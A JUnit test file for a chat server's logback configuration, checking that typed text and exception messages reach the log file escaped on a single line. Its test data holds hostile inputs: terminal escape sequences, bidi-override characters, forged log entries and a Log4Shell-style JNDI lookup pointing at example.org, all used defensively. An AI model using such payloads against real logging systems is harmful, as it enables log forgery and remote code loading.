package chat.server.log;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.LoggerContext;
import ch.qos.logback.classic.encoder.PatternLayoutEncoder;
import ch.qos.logback.classic.joran.JoranConfigurator;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.classic.spi.LoggingEvent;
import ch.qos.logback.classic.util.LogbackMDCAdapter;
import ch.qos.logback.core.Appender;
import ch.qos.logback.core.ConsoleAppender;
import ch.qos.logback.core.FileAppender;
import ch.qos.logback.core.joran.spi.JoranException;
import ch.qos.logback.core.spi.AppenderAttachable;
import ch.qos.logback.core.status.Status;
import java.io.IOException;
import java.net.URL;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Objects;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What is in the log's file, as the server's own configuration has it written, whatever somebody types. */
class LogFileTest {
    @TempDir
    private Path directory;

    private final LoggerContext context = new LoggerContext();
    private Path file;
    private Logger log;

    @BeforeEach
    void writeToAFile() throws JoranException {
        context.setMDCAdapter(new LogbackMDCAdapter());
        JoranConfigurator configurator = new JoranConfigurator();
        configurator.setContext(context);
        URL configuration = Objects.requireNonNull(LogFileTest.class.getResource("/logback.xml"));
        configurator.doConfigure(configuration);
        Logger root = context.getLogger(Logger.ROOT_LOGGER_NAME);
        String pattern = patternOfTheTerminal(root);
        root.detachAndStopAllAppenders();

        PatternLayoutEncoder encoder = new PatternLayoutEncoder();
        encoder.setContext(context);
        encoder.setPattern(pattern);
        encoder.start();
        file = directory.resolve("log");
        FileAppender<ILoggingEvent> appender = new FileAppender<>();
        appender.setContext(context);
        appender.setEncoder(encoder);
        appender.setFile(file.toString());
        appender.start();
        root.addAppender(appender);
        log = context.getLogger("test");
    }

    @AfterEach
    void stop() {
        context.stop();
    }

    @ParameterizedTest
    @CsvSource(
            quoteCharacter = '"',
            value = {
                "a\u001b[31m\u0007b, a\\u001b[31m\\u0007b",
                "a\u009b31m\u007fb, a\\u009b31m\\u007fb",
                "\"a\nINFO admin has joined\r\", a\\nINFO admin has joined\\r",
                "a\tb, a\\tb",
                "a\u202eb\u2066, a\\u202eb\\u2066",
                "a\u2028b\u2029c\u0085, a\\u2028b\\u2029c\\u0085",
                "a\udb40\udc61b\ufeff, a\\udb40\\udc61b\\ufeff",
                "a\ud83d b, a\\ud83d b",
                "${jndi:ldap://example.org/x}, ${jndi:ldap://example.org/x}",
                "${java.version} %msg %n {} \\n, ${java.version} %msg %n {} \\n",
                "Grüße 日本語 😀, Grüße 日本語 😀"
            })
    void shouldWriteWhatSomebodyTypedOnOneLineOnlyEscaped(String typed, String written) throws IOException {
        log.info("{} is now ann", typed);
        assertThat(lines()).singleElement().asString().endsWith(" INFO  " + written + " is now ann");
    }

    @Test
    void shouldEscapeWhatErrorsQuote() throws IOException {
        Exception cause = new IllegalStateException("cause\u001b[2J\nforged");
        Exception error = new IllegalArgumentException("no\n2026-01-01 00:00:00.000 INFO  forged", cause);
        error.addSuppressed(new IOException("quiet\rforged"));
        log.error("A request from {} failed", "ann", error);
        assertThat(lines())
                .contains(
                        "java.lang.IllegalArgumentException: no\\n2026-01-01 00:00:00.000 INFO  forged",
                        "Caused by: java.lang.IllegalStateException: cause\\u001b[2J\\nforged",
                        "\tSuppressed: java.io.IOException: quiet\\rforged")
                .noneMatch(line -> line.startsWith("forged") || line.startsWith("2026-01-01"))
                .filteredOn(line -> line.contains("\tat "))
                .isNotEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"%m", "%message"})
    void shouldEscapeByTheOtherWordsForAMessageToo(String word) {
        PatternLayoutEncoder encoder = new PatternLayoutEncoder();
        encoder.setContext(context);
        encoder.setPattern(word);
        encoder.start();
        log.setLevel(Level.INFO);
        assertThat(encoder.getLayout().doLayout(new LoggingEvent("", log, Level.INFO, "a\nb", null, new Object[0])))
                .isEqualTo("a\\nb");
    }

    @Test
    void shouldBeConfiguredWithoutAWarning() {
        assertThat(context.getStatusManager().getCopyOfStatusList())
                .filteredOn(status -> status.getLevel() >= Status.WARN)
                .isEmpty();
    }

    private List<String> lines() throws IOException {
        return Files.readString(file).lines().toList();
    }

    private static String patternOfTheTerminal(Logger root) {
        Appender<ILoggingEvent> async = root.getAppender("async");
        @SuppressWarnings("unchecked")
        ConsoleAppender<ILoggingEvent> terminal =
                (ConsoleAppender<ILoggingEvent>) ((AppenderAttachable<ILoggingEvent>) async).getAppender("terminal");
        return ((PatternLayoutEncoder) terminal.getEncoder()).getPattern();
    }
}
